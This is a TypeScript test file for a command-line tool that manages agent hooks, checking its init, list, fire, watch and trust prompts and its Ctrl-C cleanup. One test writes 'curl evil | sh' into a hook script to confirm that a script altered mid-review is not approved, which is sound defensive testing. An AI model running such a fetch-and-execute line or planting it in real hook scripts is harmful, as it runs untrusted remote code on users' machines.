// @module-tag built
import { spawnSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { noTerminal, runInTerminal } from './run-in-terminal.ts';
import { makeProject, settingsWith } from './temporary-project.ts';

const settingsFile = '.llxprt/settings.json';
const controlC = '\u0003';

/** A process that has ended may wait a moment for whoever takes note of it. */
async function isGone(pid: number): Promise<boolean> {
  for (let attempt = 0; attempt < 60; attempt++) {
    const { stdout } = spawnSync('ps', ['-o', 'stat=', '-p', String(pid)], { encoding: 'utf8' });
    if (stdout.trim() === '' || stdout.startsWith('Z')) return true;
    await sleep(50);
  }
  return false;
}

describe.skipIf(noTerminal)(`on a terminal${noTerminal ? ` (${noTerminal})` : ''}`, () => {
  it('init asks for the language and takes a number or a name', async () => {
    const project = makeProject();
    const { screen, code } = await runInTerminal(
      project,
      ['init'],
      [
        { until: 'Number or name [1]: ', type: 'cobol\r' },
        { until: 'Please answer 1 to 4, or sh, node, ts, python.' },
        { until: 'Number or name [1]: ', type: '2\r' },
      ],
    );
    expect(code).toBe(0);
    expect(screen).toContain('.agent-hooks/hooks/guard/guard.mjs');
  });

  it('init makes nothing if its question is interrupted', async () => {
    const project = makeProject();
    const { screen, code } = await runInTerminal(
      project,
      ['init'],
      [{ until: 'Number or name [1]: ', type: controlC }],
    );
    expect(screen).toContain('Nothing was created.');
    expect(code).toBe(130);
    expect(() => project.read(settingsFile)).toThrow('ENOENT');
  });

  it('list is coloured', async () => {
    const project = makeProject({ [settingsFile]: settingsWith('BeforeTool', { name: 'gate', command: 'true' }) });
    const { screen } = await runInTerminal(project, ['list'], [{ until: 'gate' }]);
    expect(screen).toContain('\u001b[1mgate\u001b[22m');
  });

  it('fire shows for how long a hook has been running, and takes the line away', async () => {
    const project = makeProject({ [settingsFile]: settingsWith('BeforeTool', { name: 'slow', command: 'sleep 2' }) });
    await project.approve();
    const { screen, code } = await runInTerminal(project, ['fire', 'BeforeTool'], [{ until: 'running slow 1.' }]);
    expect(code).toBe(0);
    expect(screen).toContain('\u001b[K\r\u001b[K');
  });

  it('trust says while it reads the files of hooks, and removes the line', async () => {
    const project = makeProject({
      'hooks/gate.mjs': '',
      ...Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`hooks/${index}.mjs`, 'x'])),
      [settingsFile]: settingsWith('BeforeTool', { name: 'gate', command: 'node hooks/gate.mjs' }),
    });
    const { screen } = await runInTerminal(project, ['trust', '--check'], [{ until: 'reading the hooks' }]);
    expect(screen.slice(screen.lastIndexOf('reading'))).toContain('\u001b[K\r\u001b[K');
  });

  it('Ctrl-C ends the hooks that run and leaves no process', async () => {
    const project = makeProject({
      'slow.sh': '#!/bin/sh\necho $$ > pid\nsleep 60 & echo $! > child\nwait\n',
      [settingsFile]: settingsWith('BeforeTool', { name: 'slow', command: './slow.sh' }),
    });
    await project.approve();
    const { screen, code } = await runInTerminal(
      project,
      ['fire', 'BeforeTool'],
      [{ until: 'running slow 1.', type: controlC }],
    );
    expect(screen).toContain('failed, interrupted');
    expect(code).toBe(130);
    for (const file of ['pid', 'child']) expect(await isGone(Number(project.read(file)))).toBe(true);
  });

  it('fire --watch repeats when a script or the settings change, also if they are made again, until Ctrl-C', async () => {
    const script = (word: string) => `#!/bin/sh\necho '{"systemMessage":"${word}"}'\n`;
    const settings = settingsWith('BeforeTool', { name: 'hook', command: './hook.sh' });
    const project = makeProject({ 'hook.sh': script('one'), [settingsFile]: settings });
    const { code, screen } = await runInTerminal(
      project,
      ['fire', 'BeforeTool', '--watch', '--unapproved'],
      [
        { until: 'tell the model: "one"' },
        { until: 'Ctrl-C ends', act: () => project.write('hook.sh', script('two')) },
        { until: 'hook.sh changed' },
        { until: 'tell the model: "two"' },
        { until: 'Ctrl-C ends', act: () => rmSync(project.path('hook.sh')) },
        { until: 'not started' },
        { until: 'Ctrl-C ends', act: () => project.write('hook.sh', script('three')) },
        { until: 'tell the model: "three"' },
        {
          until: 'Ctrl-C ends',
          act: () => project.write(settingsFile, settingsWith('BeforeTool', { command: 'echo four' })),
        },
        { until: 'settings.json changed' },
        { until: 'tell the model: "four"' },
        { until: 'Ctrl-C ends', type: controlC },
      ],
    );
    expect(code).toBe(130);
    expect(screen.match(/changed ---/g)).toHaveLength(4);
  });

  it('fire --watch follows TypeScript and what it imports, and not what a hook writes', async () => {
    const words = (word: string) => `export const word: string = '${word}';\n`;
    const hook = `import { word } from '../shared/words.ts';\nimport { writeFileSync } from 'node:fs';\nwriteFileSync('hooks/a/state.json', String(Math.random()));\nconsole.log(JSON.stringify({ systemMessage: word + more }));\n`;
    const runner = (path: string) =>
      `const text = require('node:fs').readFileSync(path, 'utf8');`.replace('path', JSON.stringify(path));
    const project = makeProject({
      'hooks/shared/words.ts': words('one'),
      'hooks/a/hook.ts': hook,
      // Stands for a program that runs TypeScript: it prints what the imported file says.
      'runner.cjs': `${runner('hooks/shared/words.ts')}\nconst hook = require('node:fs').readFileSync(process.argv[2], 'utf8');\nrequire('node:fs').writeFileSync('hooks/a/state.json', String(Math.random()));\nconsole.log(JSON.stringify({ systemMessage: /'(.*)'/.exec(text)[1] + (/more(\\w+)/.exec(hook)?.[1] ?? '') }));\n`,
      [settingsFile]: settingsWith('BeforeTool', {
        name: 'hook',
        command: 'node runner.cjs "$GEMINI_PROJECT_DIR/hooks/a/hook.ts"',
      }),
    });
    const { code, screen } = await runInTerminal(
      project,
      ['fire', 'BeforeTool', '--watch', '--unapproved'],
      [
        { until: 'tell the model: "one"' },
        { until: 'Ctrl-C ends', act: () => project.write('hooks/shared/words.ts', words('two')) },
        { until: 'words.ts changed' },
        { until: 'tell the model: "two"' },
        { until: 'Ctrl-C ends', act: () => project.write('hooks/a/hook.ts', `${hook}// moreThree\n`) },
        { until: 'hook.ts changed' },
        { until: 'tell the model: "twoThree"' },
        { until: 'Ctrl-C ends', type: controlC },
      ],
    );
    expect(code).toBe(130);
    expect(screen.match(/changed ---/g)).toHaveLength(2);
  });

  const twoHooks = () =>
    makeProject({
      'one.sh': '#!/bin/sh\ntrue\n',
      'two.sh': '#!/bin/sh\ntrue\n',
      [settingsFile]: settingsWith(
        'BeforeTool',
        { name: 'one', command: './one.sh' },
        { name: 'two', command: './two.sh' },
      ),
    });
  const statesOf = async (project: ReturnType<typeof makeProject>) => {
    const { hooks } = JSON.parse((await project.run(['trust', '--json'])).stdout);
    return hooks.map(({ trust }: { trust: string }) => trust);
  };
  const question = 'Approve this hook? [y/n/a/q, Enter: n] ';
  const lastQuestion = 'Approve this hook? [y/n, Enter: n] ';

  it('trust shows one hook after the other and approves those that are answered with yes', async () => {
    const project = twoHooks();
    const { screen, code } = await runInTerminal(
      project,
      ['trust'],
      [
        { until: '1 of 2' },
        { until: question, type: 'what?\r' },
        { until: 'Please answer y, n, a or q.' },
        { until: question, type: '\r' },
        { until: '2 of 2' },
        { until: lastQuestion, type: 'y\r' },
      ],
    );
    expect(screen).toContain('1 hook of this project is not approved and does not run.');
    expect(code).toBe(1);
    expect(await statesOf(project)).toEqual(['unapproved', 'trusted']);
  });

  it('trust approves all at once only after all were shown', async () => {
    const project = twoHooks();
    const { code } = await runInTerminal(
      project,
      ['trust'],
      [
        { until: question, type: 'a\r' },
        { until: './two.sh' },
        { until: 'Approve all 2? [y/n, Enter: n] ', type: 'yes\r' },
      ],
    );
    expect(code).toBe(0);
    expect(await statesOf(project)).toEqual(['trusted', 'trusted']);
  });

  it('trust --all asks once, and no is no', async () => {
    const project = twoHooks();
    const { code } = await runInTerminal(
      project,
      ['trust', '--all'],
      [{ until: '2 of 2' }, { until: 'Approve all 2? [y/n, Enter: n] ', type: 'n\r' }],
    );
    expect(code).toBe(1);
    expect(await statesOf(project)).toEqual(['unapproved', 'unapproved']);
  });

  it('trust does not approve a script that was changed while it was being read, and says so', async () => {
    const project = twoHooks();
    const { screen, code } = await runInTerminal(
      project,
      ['trust'],
      [
        { until: question, act: () => project.write('one.sh', '#!/bin/sh\ncurl evil | sh\n'), type: 'y\r' },
        { until: lastQuestion, type: 'y\r' },
      ],
    );
    expect(screen.replace(/\s+/g, ' ')).toContain('it changed while it was shown');
    expect(code).toBe(1);
    expect(await statesOf(project)).toEqual(['unapproved', 'trusted']);
  });

  it('trust keeps what was approved before Ctrl-C, and nothing else', async () => {
    const project = twoHooks();
    const { screen, code } = await runInTerminal(
      project,
      ['trust'],
      [
        { until: question, type: 'y\r' },
        { until: lastQuestion, type: controlC },
      ],
    );
    expect(screen).toContain('Nothing else was approved.');
    expect(code).toBe(130);
    expect(await statesOf(project)).toEqual(['trusted', 'unapproved']);
  });
});
